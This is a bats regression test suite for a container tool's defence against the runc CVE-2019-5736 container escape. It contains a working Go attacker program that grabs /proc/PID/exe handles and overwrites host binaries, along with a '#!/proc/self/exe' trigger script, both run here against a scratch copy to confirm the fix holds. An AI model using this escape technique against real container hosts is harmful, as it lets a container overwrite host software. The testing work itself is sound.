#!/usr/bin/env bats
# shellcheck disable=SC2154 # $stderr comes from bats run --separate-stderr
# runc CVE-2019-5736: a container's process that holds /proc/PID/exe of a
# process running the host's tw can, once that process is gone, open the
# host's tw for writing and replace it. tw runs a container's program from
# a sealed trampoline wherever it is a security boundary, so that a
# `#!/proc/self/exe` script makes the kernel run the trampoline, not tw.
# The tw under test here is a scratch copy: the watcher really writes to
# whatever it got hold of.

load helpers

setup_file() {
	requires root go /bin/busybox
	export ROOT=$BATS_FILE_TMPDIR/rootfs
	busybox_rootfs "$ROOT"
	write_watcher "$BATS_FILE_TMPDIR/watch.go"
	(cd "$BATS_TEST_DIRNAME/.." && CGO_ENABLED=0 go build -o "$ROOT/watch" "$BATS_FILE_TMPDIR/watch.go")
	# the attacker's program: tw, run as an applet that executes it again
	printf '#!/proc/self/exe unshare\n' >"$ROOT/evil"
	chmod 0755 "$ROOT/evil"
}

setup() {
	requires root go /bin/busybox
	cd "$BATS_TEST_TMPDIR" || exit
	NAME=exe-$BATS_TEST_NUMBER-$$
	PIDS=()
	rm -f "$ROOT/ready" "$ROOT/stop" "$ROOT/result"
	# the host's tw under test: a copy, with its tw-* links
	BIN=$BATS_TEST_TMPDIR/bin
	mkdir "$BIN"
	cp "$TW_BIN/tw" "$BIN/tw"
	"$BIN/tw" --install "$BIN"
	read -r TWDEV TWINO < <(stat -c '%d %i' "$BIN/tw")
}

teardown() {
	end_pids "${PIDS[@]}"
	# what a tw-runc killed by the timeout left (its init, its cgroup)
	if [ -d "$BATS_TEST_TMPDIR/state/$NAME" ]; then
		"$TW_BIN/tw-runc" --root "$BATS_TEST_TMPDIR/state" delete --force "$NAME" || true
	fi
}

# write_watcher FILE: the attacker's watcher, in Go. It holds an O_PATH
# descriptor to the binary of every process it sees (/proc/PID/exe),
# except its own and the files named as its arguments, until /stop exists;
# then it opens each for writing (retrying while the file is still
# executed somewhere) and writes "PWNED" at its start. /result gets one
# line per file: DEV INO LINK RESULT.
write_watcher() {
	cat >"$1" <<-'GO'
		package main

		import (
			"fmt"
			"os"
			"strconv"
			"syscall"
			"time"

			"golang.org/x/sys/unix"
		)

		type key struct{ dev, ino uint64 }

		func stat(p string) key {
			var st syscall.Stat_t
			syscall.Stat(p, &st)
			return key{st.Dev, st.Ino}
		}

		func main() {
			skip := map[key]bool{stat("/proc/self/exe"): true}
			for _, p := range os.Args[1:] {
				skip[stat(p)] = true
			}
			held := map[key]int{}
			os.WriteFile("/ready", nil, 0o644)
			for {
				if _, err := os.Stat("/stop"); err == nil {
					break
				}
				ents, _ := os.ReadDir("/proc")
				for _, e := range ents {
					if _, err := strconv.Atoi(e.Name()); err != nil {
						continue
					}
					fd, err := syscall.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|syscall.O_CLOEXEC, 0)
					if err != nil {
						continue
					}
					var st syscall.Stat_t
					syscall.Fstat(fd, &st)
					k := key{st.Dev, st.Ino}
					if _, ok := held[k]; ok || skip[k] {
						syscall.Close(fd)
						continue
					}
					held[k] = fd
				}
				time.Sleep(time.Millisecond)
			}
			out := ""
			for k, fd := range held {
				p := "/proc/self/fd/" + strconv.Itoa(fd)
				link, _ := os.Readlink(p)
				res := ""
				for i := 0; i < 50; i++ {
					w, err := syscall.Open(p, syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
					if err == syscall.ETXTBSY {
						time.Sleep(100 * time.Millisecond)
						continue
					}
					if err != nil {
						res = "open: " + err.Error()
						break
					}
					if _, err := syscall.Pwrite(w, []byte("PWNED"), 0); err != nil {
						res = "write: " + err.Error()
					} else {
						res = "written"
					}
					syscall.Close(w)
					break
				}
				if res == "" {
					res = "open: " + syscall.ETXTBSY.Error()
				}
				out += fmt.Sprintf("%d %d %q %s\n", k.dev, k.ino, link, res)
			}
			os.WriteFile("/result.tmp", []byte(out), 0o644)
			os.Rename("/result.tmp", "/result")
			for {
				time.Sleep(time.Hour)
			}
		}
	GO
}

# start: the hardened container, its first program the watcher, which
# leaves busybox alone (the container's own).
start() {
	tw-unshare -muinpf --hostname "$NAME" tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden \
		/watch /bin/busybox 3>&- &
	PIDS+=("$!")
	wait_for "$ROOT/ready"
}

# verdict: stop the watcher, wait for its result, and assert that it got
# no hold of the host's tw and that the copy under test is intact.
verdict() {
	touch "$ROOT/stop"
	for _ in $(seq 100); do [ -e "$ROOT/result" ] && break; sleep 0.1; done
	cat "$ROOT/result"
	[ -e "$ROOT/result" ]
	if grep -q "^$TWDEV $TWINO " "$ROOT/result"; then
		fail "the container held the host's tw: $(grep "^$TWDEV $TWINO " "$ROOT/result")"
	fi
	cmp "$TW_BIN/tw" "$BIN/tw"
	# whatever it held instead (the trampoline, if it caught it) refused the write
	run ! grep -q ' written$' "$ROOT/result"
}

@test "tw-enter --harden of a '#!/proc/self/exe' script: the container gets no hold of the host's tw" {
	start
	# before the fix the host's tw ran the script again and again (as
	# tw-unshare) until the timeout; now the trampoline runs it, finds no
	# program "unshare" and exits 127
	run -127 timeout 3 "$BIN/tw-enter" --harden "$NAME" /evil
	verdict
}

@test "the hardened chain runs a '#!/proc/self/exe' program from the trampoline, not from the host's tw" {
	# before the fix the kernel ran the host's tw as the container's
	# first process (here: tw-unshare executing the script again and again
	# until the timeout); now it runs the trampoline, which finds no
	# program "unshare" and exits 127
	run -127 timeout 5 "$BIN/tw-unshare" -muinpf tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden /evil
	# child mode (tw-mountproc before tw-pivot: tw-harden runs in a child
	# tw, which executes the program itself) too
	run -127 timeout 5 "$BIN/tw-unshare" -muinpf tw-mountproc --target "$ROOT/proc" tw-pivot "$ROOT" \
		tw-mountsys tw-mountdev tw-harden /evil
	run -0 "$BIN/tw-unshare" -muinpf tw-mountproc --target "$ROOT/proc" tw-pivot "$ROOT" \
		tw-mountsys tw-mountdev tw-harden /bin/sh -c 'readlink /proc/self/exe; ls /proc/self/fd'
	assert_output $'/bin/busybox\n0\n1\n2\n3'
}

@test "the program itself: /proc/self/exe is its own binary, descriptors 0-2 only; exec errors are tw's as before" {
	start
	run -0 "$BIN/tw-enter" --harden "$NAME" /bin/readlink /proc/self/exe
	assert_output /bin/busybox
	run -0 "$BIN/tw-enter" --harden "$NAME" /bin/ls /proc/self/fd
	assert_output $'0\n1\n2\n3'
	run -127 --separate-stderr "$BIN/tw-enter" --harden "$NAME" /nonexistent
	assert_equal "$stderr" "tw-enter: exec /nonexistent: no such file or directory"
	run -0 "$BIN/tw-unshare" -muinpf tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden /bin/sh -c 'readlink /proc/self/exe; ls /proc/self/fd'
	assert_output $'/bin/busybox\n0\n1\n2\n3'
	run -127 --separate-stderr "$BIN/tw-unshare" -muinpf tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden /nonexistent
	assert_equal "$stderr" "tw-harden: exec /nonexistent: no such file or directory"
	# what only execve finds out: the trampoline reports it to tw
	printf 'garbage\n' >"$ROOT/garbage"
	chmod 0755 "$ROOT/garbage"
	printf '#!/nonexistent/interp\n' >"$ROOT/badinterp"
	chmod 0755 "$ROOT/badinterp"
	run -126 --separate-stderr "$BIN/tw-unshare" -muinpf tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden /garbage
	assert_equal "$stderr" "tw-harden: exec /garbage: exec format error"
	run -127 --separate-stderr "$BIN/tw-unshare" -muinpf tw-pivot "$ROOT" tw-mountproc tw-mountsys tw-mountdev tw-harden /badinterp
	assert_equal "$stderr" "tw-harden: exec /badinterp: no such file or directory"
	run -126 --separate-stderr "$BIN/tw-enter" --harden "$NAME" /garbage
	assert_equal "$stderr" "tw-enter: exec /garbage: exec format error"
	run -127 --separate-stderr "$BIN/tw-enter" --harden "$NAME" /badinterp
	assert_equal "$stderr" "tw-enter: exec /badinterp: no such file or directory"
	rm -f "$ROOT/garbage" "$ROOT/badinterp"
}

@test "tw-runc's forked init runs a '#!/proc/self/exe' program from the trampoline, not from the host's tw" {
	# The init is a fork of create, the host's tw: without the trampoline
	# the kernel would run the host's tw as the container's program.
	local b=$BATS_TEST_TMPDIR/bundle
	mkdir "$b"
	"$BIN/tw-runc" spec -b "$b"
	jq --arg r "$ROOT" '.root = {path: $r, readonly: true} | .process.terminal = false | .process.args = ["/evil"]' \
		"$b/config.json" >"$b/c.json"
	mv "$b/c.json" "$b/config.json"
	run -127 timeout -s KILL 10 "$BIN/tw-runc" --root "$BATS_TEST_TMPDIR/state" run --bundle "$b" "$NAME"
	jq '.process.args = ["/bin/sh", "-c", "readlink /proc/self/exe; ls /proc/self/fd"]' "$b/config.json" >"$b/c.json"
	mv "$b/c.json" "$b/config.json"
	run -0 "$BIN/tw-runc" --root "$BATS_TEST_TMPDIR/state" run --bundle "$b" "$NAME"
	assert_output $'/bin/busybox\n0\n1\n2\n3'
}
